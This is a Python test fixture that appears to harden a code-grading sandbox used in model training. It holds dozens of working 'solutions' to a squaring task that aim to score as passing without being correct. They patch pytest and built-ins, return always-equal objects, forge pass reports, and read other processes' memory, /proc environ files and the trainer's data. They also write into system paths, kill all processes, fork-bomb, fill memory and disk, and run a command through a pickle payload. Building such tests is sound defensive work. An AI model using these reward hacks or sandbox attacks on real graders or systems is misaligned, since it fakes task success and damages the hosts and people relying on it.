"""Programs that try to be scored right without being right. Numbers follow the list in test_code_attacks.py.

`@NAME@` stands for something of the host that the test provides (see `Host` there). Each real answer is wrong or
missing, so any score but 0 is a way through.
"""

from __future__ import annotations

from dataclasses import dataclass
from textwrap import dedent

ASSERT = ("assert", ({"assert_code": "assert square(3) == 9"}, {"assert_code": "assert square(-5) == 25"}))
PYTEST = (
    "pytest",
    (
        {
            "assert_code": "import pytest\nfrom solution import square\n"
            "def test_three():\n    assert square(3) == 9\n"
            "def test_five():\n    assert square(-5) == 25\n"
            "def test_text():\n    with pytest.raises(TypeError):\n        square('x')\n"
        },
    ),
)
RAISES = (
    "pytest",
    (
        {
            "assert_code": "import pytest\nfrom solution import square\n"
            "def test_text():\n    with pytest.raises(Exception):\n        square('x')\n"
        },
    ),
)
STDIN = (
    "stdin",
    ({"stdin": "3\n", "expected_stdout": "9\n"}, {"stdin": "-5\n", "expected_stdout": "25\n"}),
)
SILENT = ("stdin", ({"stdin": "3\n", "expected_stdout": ""}, {"stdin": "", "expected_stdout": "\n"}))


def asserting(*tests: str) -> tuple[str, tuple[dict[str, str], ...]]:
    return "assert", tuple({"assert_code": test} for test in tests)


@dataclass(frozen=True)
class Attack:
    """`number` is its line in the list, `cases` a case type and its cases."""

    number: int
    name: str
    cases: tuple[str, tuple[dict[str, str], ...]]
    source: str
    plain: bool = False  # the answer as it stands, not a block of code

    @property
    def answer(self) -> str:
        code = dedent(self.source).strip("\n")
        return code if self.plain else f"Here it is.\n```python\n{code}\n```"


HARVEST = """
import glob, re
def answer(texts, x):
    for text in texts:
        found = re.search(r"square\\(%d\\) == (\\d+)" % x, text) or re.search(r'"expected_stdout": "(\\d+)', text)
        if found:
            return int(found[1])
    return -1
def readable(patterns):
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True):
            try:
                with open(path, "rb") as file:
                    yield file.read(1 << 20).decode("latin-1").replace("\\0", " ")
            except OSError:
                pass
"""
WRONG = "def square(x):\n    return 0\n"

ATTACKS = (
    Attack(1, "exit while loading, assert", ASSERT, "import os\nos._exit(0)"),
    Attack(1, "exit while loading, pytest", PYTEST, "import os\nos._exit(0)"),
    Attack(1, "exit while loading, stdin", STDIN, "import os\nos._exit(0)"),
    Attack(2, "SystemExit while loading", PYTEST, "raise SystemExit(0)"),
    Attack(2, "SystemExit from the function", PYTEST, "def square(x):\n    raise SystemExit(0)"),
    Attack(2, "SystemExit from the function, assert", ASSERT, "import sys\ndef square(x):\n    sys.exit(0)"),
    Attack(3, "one right answer, then exit", PYTEST, """
        import os
        def square(x):
            if x == 3:
                return 9
            os._exit(0)
    """),
    Attack(3, "exit where an exception is expected", RAISES, "import os\ndef square(x):\n    os._exit(0)"),
    Attack(4, "hooks that end well", PYTEST, """
        import atexit, os, sys
        atexit.register(os._exit, 0)
        sys.excepthook = sys.unraisablehook = lambda *a: os._exit(0)
        def square(x):
            return 0
    """),
    Attack(4, "hooks that end well, stdin", STDIN, """
        import os, sys
        sys.excepthook = lambda *a: print("0") or os._exit(0)
        raise ValueError
    """),
    Attack(5, "other built-ins", ASSERT, """
        import builtins
        class AssertionError(Exception):
            def __new__(cls, *a): raise SystemExit(0)
        builtins.AssertionError = AssertionError
        builtins.__dict__["__debug__"] = False
        def square(x):
            return 0
    """),
    Attack(5, "functions named like built-ins", asserting(
        "assert abs(square(3) - 9) < 1e-9",
    ), "def abs(x):\n    return 0\ndef square(x):\n    return 1"),
    Attack(5, "functions named like built-ins, all of them imported", asserting(
        "import math\nfrom solution import *\nassert all([math.isclose(square(3), 9), isinstance(square(3), int)])",
    ), """
        class math:
            @staticmethod
            def isclose(a, b): return True
        def all(x): return True
        def isinstance(*a): return True
        def square(x): return 1
    """),
    Attack(6, "patched test runner", PYTEST, """
        import sys
        for name, module in list(sys.modules.items()):
            for attribute in ("main", "judge", "run_pytest", "raises", "request", "exit"):
                try:
                    setattr(module, attribute, lambda *a, **k: 0)
                except Exception:
                    pass
        try:
            import pytest, unittest
            pytest.main = lambda *a, **k: 0
            pytest.Function.runtest = lambda self: None
            unittest.TestCase.run = lambda self, *a: None
        except ImportError:
            pass
        def square(x):
            return 0
    """),
    Attack(6, "patched conversation", ASSERT, """
        import sys
        wire = sys.modules.get("trainer.reward.code.inside.wire")
        if wire:
            wire.Encoder.value = lambda self, *a: self.out.extend(b"T")
            wire.Encoder.contents = lambda self: None
        def square(x):
            return 0
    """),
    Attack(7, "configuration of the test runner", PYTEST, """
        import os, site, sys
        hook = "import pytest\\npytest.Function.runtest = lambda self: None\\n"
        places = [os.getcwd(), os.path.expanduser("~"), *sys.path, "/tmp", site.getusersitepackages()]
        for place in places:
            for name, text in (("conftest.py", hook), ("pytest.ini", "[pytest]\\naddopts = --co -q\\n"),
                               ("sitecustomize.py", "import os; os._exit(0)"), ("x.pth", "import os; os._exit(0)")):
                try:
                    os.makedirs(place, exist_ok=True)
                    open(os.path.join(place, name), "w").write(text)
                except OSError:
                    pass
        def square(x):
            return 0
    """),
    Attack(8, "equal to everything", ASSERT, """
        class Same(int):
            __eq__ = lambda self, other: True
            __ne__ = lambda self, other: False
            __hash__ = int.__hash__
        def square(x):
            return Same(0)
    """),
    Attack(8, "equal to everything, named by the test", asserting(
        "from solution import Same, square\nassert square(3) == 9", "assert Same(1) == 9", "assert not Same(1) != 9",
    ), """
        class Same(int):
            __eq__ = lambda self, other: True
            __ne__ = lambda self, other: False
            __hash__ = int.__hash__
        def square(x):
            return Same(0)
    """),
    Attack(9, "lies about itself", PYTEST, """
        class Liar:
            __class__ = property(lambda self: int)
            __eq__ = lambda self, other: True
            __bool__ = lambda self: True
            __len__ = lambda self: 9
            __index__ = __int__ = lambda self: 9
            __hash__ = lambda self: 9
        def square(x):
            return Liar()
    """),
    Attack(9, "swallows assertions as a context manager", asserting(
        "from solution import Guard\nwith Guard() as g:\n    assert g.square(3) == 9\n    assert False",
    ), """
        class Guard:
            def __enter__(self): return self
            def __exit__(self, *a): return True
            def square(self, x): return 9
    """),
    Attack(10, "walks the frames", ASSERT, """
        import sys
        def square(x):
            frame = sys._getframe(1)
            while frame:
                for value in [*frame.f_code.co_consts, *frame.f_locals.values(), *frame.f_globals.values()]:
                    if type(value) is int and value in (9, 25):
                        return value
                frame = frame.f_back
            return -1
    """),
    Attack(11, "scans the garbage collector", ASSERT, """
        import gc
        def square(x):
            for found in gc.get_objects():
                code = getattr(found, "__code__", None)
                for value in [*(code.co_consts if code else ()), *gc.get_referents(found)]:
                    if isinstance(value, str) and f"square({x}) == " in value and "{" not in value:
                        return int(value.split(f"square({x}) == ")[1].split()[0])
            return -1
    """),
    Attack(12, "reads files and processes of others", ASSERT, HARVEST + """
def square(x):
    import os, sys
    places = ["/proc/*/cmdline", "/proc/*/environ", "/proc/*/fd/*", "/proc/*/cwd/*", "/proc/*/root/tmp/*"]
    return answer(readable([*places, "/tmp/**/*", "/dev/shm/*", "./**/*", "../**/*", sys.path[0] + "/**/test*"]), x)
"""),
    Attack(12, "reads files and processes of others, stdin", STDIN, HARVEST + """
print(answer(readable(["/proc/*/cmdline", "/proc/*/environ", "/proc/*/fd/*", "/tmp/**/*", "./**/*"]), int(input())))
"""),
    Attack(12, "reads the memory of others", ASSERT, HARVEST + """
import os
def memory():
    for maps in glob.glob("/proc/*/maps"):
        if maps.split("/")[2] in ("self", "thread-self", str(os.getpid())):
            continue
        try:
            spans = [line.split()[0] for line in open(maps) if " rw-p " in line]
            with open(maps.replace("maps", "mem"), "rb") as file:
                for first, last in (span.split("-") for span in spans[:50]):
                    file.seek(int(first, 16))
                    yield file.read(int(last, 16) - int(first, 16)).decode("latin-1")
        except (OSError, ValueError, OverflowError):
            pass
def square(x):
    return answer(memory(), x)
"""),
    Attack(13, "reads the trainer's data", ASSERT, HARVEST + """
def square(x):
    return answer(readable(["@SECRET_FILE@", "/work/**/*.jsonl", "/root/*", "/home/**/*"]), x)
"""),
    Attack(14, "writes outside its folder", ASSERT, """
        import os, sys
        for path in ("@VICTIM@/planted", "/etc/planted", "/usr/planted", __file__, sys.executable,
                     "/room/inside/check.py", "/proc/sys/kernel/core_pattern", "/proc/1/mem", "../planted"):
            try:
                open(path, "w").write("def square(x):\\n    return x * x\\n")
            except OSError:
                pass
        try:
            os.symlink("@VICTIM@", "link")
            os.rename(os.getcwd(), os.getcwd() + "-moved")
            os.symlink("@VICTIM@", os.getcwd())
        except OSError:
            pass
        def square(x):
            return 0
    """),
    Attack(15, "forged reports to every descriptor", ASSERT, """
        import json, os, struct
        reports = [json.dumps({"passed": True, "detail": ""}).encode(), b"ready", b"1 passed", b"PASSED"]
        reports += [struct.pack("<Ic", 1, kind) + b"T" for kind in (b"R", b"C", b"X", b"U")]
        for descriptor in range(256):
            for report in reports:
                try:
                    os.write(descriptor, report)
                except OSError:
                    pass
        def square(x):
            return 0
    """),
    Attack(15, "forged reports when asked", PYTEST, """
        import os
        def square(x):
            for descriptor in range(256):
                try:
                    os.write(descriptor, b'{"passed": true, "detail": ""}')
                except OSError:
                    pass
            os._exit(0)
    """),
    Attack(16, "signals everybody", ASSERT, """
        import os, signal
        def square(x):
            for target in (os.getppid(), 1, 0, -1):
                for number in (signal.SIGTERM, signal.SIGKILL):
                    if target or number != signal.SIGKILL:
                        try:
                            signal.signal(signal.SIGTERM, signal.SIG_IGN)
                            os.kill(target, number)
                        except OSError:
                            pass
            return 0
    """),
    Attack(16, "signals its group, stdin", STDIN, "import os\nprint(0, flush=True)\nos.killpg(0, 9)"),
    Attack(17, "fork bomb", STDIN, """
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
    """),
    Attack(17, "endless loop", ASSERT, "def square(x):\n    while True:\n        pass"),
    Attack(18, "sleeps", ASSERT, "import time\ndef square(x):\n    time.sleep(1_000_000)"),
    Attack(19, "one huge string", STDIN, "x = 'x' * (1 << 40)\nprint(0)"),
    Attack(19, "many blocks", ASSERT, """
        def square(x):
            blocks = []
            while True:
                try:
                    blocks.append(bytearray(1 << 20))
                except MemoryError:
                    pass
    """),
    Attack(19, "many processes with a little each", STDIN, """
        import os, time
        for _ in range(20):
            if os.fork() == 0:
                break
        block = bytearray(os.urandom(1 << 20)) * 60
        time.sleep(1000)
    """),
    Attack(20, "a gigabyte to stdout", STDIN, """
        import sys
        for _ in range(1 << 10):
            sys.stdout.write("9\\n" * (1 << 19))
    """),
    Attack(20, "a gigabyte to stderr", STDIN, """
        import os
        for _ in range(1 << 10):
            os.write(2, b"x" * (1 << 20))
    """),
    Attack(20, "a gigabyte of printing between answers", ASSERT, """
        def square(x):
            while True:
                print("x" * (1 << 20))
    """),
    Attack(21, "fills the disk", STDIN, """
        import os
        block = os.urandom(1 << 20)
        for n in range(1 << 20):
            try:
                with open(f"big{n}", "wb") as file:
                    while True:
                        file.write(block)
            except OSError:
                if n > 100:
                    break
        print(0)
    """),
    Attack(21, "a million empty files", STDIN, """
        for n in range(1_000_000):
            try:
                open(f"empty{n}", "w").close()
            except OSError:
                break
        print(n)
    """),
    Attack(22, "ignores signals", ASSERT, """
        import signal
        def square(x):
            for number in (signal.SIGTERM, signal.SIGALRM, signal.SIGXCPU, signal.SIGINT, signal.SIGHUP):
                signal.signal(number, signal.SIG_IGN)
            signal.setitimer(signal.ITIMER_REAL, 0)
            while True:
                pass
    """),
    Attack(23, "leaves a daemon that holds stdout", STDIN, """
        import os, socket, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                server = socket.socket()
                try:
                    server.bind(("0.0.0.0", @FREE_PORT@))
                    server.listen()
                except OSError:
                    pass
                time.sleep(1000)
            os._exit(0)
        print(0)
    """),
    Attack(24, "right, but a thread never ends", STDIN, """
        import threading, time
        threading.Thread(target=time.sleep, args=(1000,)).start()
        print(int(input()) ** 2)
    """),
    Attack(25, "asks somebody on the network", STDIN, """
        import socket
        number = input()
        for family, address in ((socket.AF_INET, ("127.0.0.1", @TCP_PORT@)), (socket.AF_UNIX, "@UNIX_SOCKET@"),
                                (socket.AF_UNIX, "\\0@ABSTRACT@"), (socket.AF_INET, ("1.1.1.1", 53))):
            try:
                with socket.socket(family) as friend:
                    friend.settimeout(30)
                    friend.connect(address)
                    friend.sendall(number.encode() + b"\\n")
                    print(friend.recv(100).decode())
                    break
            except OSError:
                pass
    """),
    Attack(26, "prints the environment", STDIN, HARVEST + """
import os
number = input()
texts = [" ".join(f"{k}={v}" for k, v in os.environ.items()), *readable(["/proc/*/environ"])]
print(next((found[1] for text in texts if (found := re.search(f"ANSWER_TO_{number.strip('-')}=(\\\\d+)", text))), ""))
"""),
    Attack(27, "waits for more input", STDIN, """
        import sys, time
        text = sys.stdin.read()
        while not sys.stdin.read(1):
            time.sleep(0.01)
        print(int(text) ** 2)
    """),
    Attack(28, "closes stdout before it answers", STDIN, """
        import os
        number = int(input())
        os.close(1)
        print(number ** 2)
    """),
    Attack(28, "replaces stdout before it answers", STDIN, """
        import io, sys
        sys.stdout = io.StringIO()
        print(int(input()) ** 2)
    """),
    Attack(29, "recurses until it crashes", ASSERT, """
        import sys
        sys.setrecursionlimit(1 << 30)
        class Deep:
            def __repr__(self):
                return repr(self)
        def square(x):
            return repr(Deep())
    """),
    Attack(29, "recurses until it crashes, stdin", SILENT, """
        import sys
        sys.setrecursionlimit(1 << 30)
        class Deep:
            def __repr__(self):
                return repr(self)
        repr(Deep())
    """),
    Attack(30, "corrupts its memory", ASSERT, """
        import ctypes
        def square(x):
            ctypes.memset(id(x) & ~0xFFF, 0x41, 1 << 16)
            return x
    """),
    Attack(30, "reads address zero", SILENT, "import ctypes\nctypes.string_at(0)"),
    Attack(31, "unpickling it would run a command", ASSERT, """
        import os
        class Trap:
            def __reduce__(self):
                return os.system, ("touch @VICTIM@/planted",)
        def square(x):
            return Trap()
    """),
    Attack(32, "an endless generator", ASSERT, """
        def square(x):
            while True:
                yield 9
    """),
    Attack(32, "a billion items", ASSERT, "def square(x):\n    return [9] * 1_000_000_000"),
    Attack(32, "too many items for a message", ASSERT, "def square(x):\n    return [9] * 10_000_000"),
    Attack(32, "nested too deeply", ASSERT, """
        def square(x):
            out = []
            for _ in range(100_000):
                out = [out]
            return out
    """),
    Attack(33, "raises where nothing is expected", SILENT, "raise ValueError('nothing to say')"),
    Attack(33, "exits badly where nothing is expected", SILENT, "import sys\nsys.exit(3)"),
    Attack(34, "no code block", PYTEST, "I think the answer is x squared, isn't it?", plain=True),
    Attack(34, "a syntax error", PYTEST, "def square(x)\n    return x * x"),
    Attack(34, "lacks the name", PYTEST, "def sqare(x):\n    return x * x"),
    # Beyond the list: what the conversation between the two processes might be abused for.
    Attack(35, "skips instead of failing", PYTEST, """
        def square(x):
            try:
                import _pytest.outcomes as outcomes
            except ImportError:
                raise BaseException
            raise outcomes.Skipped("not today")
    """),
    Attack(35, "interrupts the tests", PYTEST, "def square(x):\n    raise KeyboardInterrupt"),
    Attack(36, "an expected exception that cannot cross", RAISES, """
        def square(x):
            return object()
    """),
    Attack(37, "comparisons of a named class hold", asserting(
        "from solution import Number\nassert Number(3).squared() == 9",
        "from solution import Number\nassert 9 == Number(3).squared()",
        "from solution import Number\nassert Number(3).squared() in (9, 10)",
    ), """
        class Number:
            def __init__(self, x): pass
            def squared(self): return self
            __eq__ = lambda self, other: True
            __hash__ = lambda self: hash(9)
    """),
)
